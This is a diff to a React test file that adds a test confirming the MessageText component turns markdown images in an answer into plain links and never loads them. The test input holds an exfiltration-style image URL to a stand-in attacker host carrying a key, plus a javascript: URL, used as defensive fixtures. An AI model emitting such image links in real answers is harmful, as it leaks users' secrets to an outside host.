@@ -38,4 +38,14 @@ describe("MessageText", () => {
     expect(container.querySelectorAll("table tbody tr")).toHaveLength(2);
     expect(container.querySelector("tbody td")).toHaveTextContent("12 Oak St");
   });
+
+  it("never loads an image from an answer: it becomes a link the user may open", () => {
+    const text = "Best deal: ![photo](https://attacker.example/leak?key=abc) and ![](javascript:alert(1))";
+    const { container } = render(<MessageText text={text} />);
+    expect(container.querySelector("img")).toBeNull();
+    const link = container.querySelector("a");
+    expect(link).toHaveAttribute("href", "https://attacker.example/leak?key=abc");
+    expect(link).toHaveTextContent("image: photo");
+    expect(container.textContent).toContain("[image: untitled]");
+  });
 });
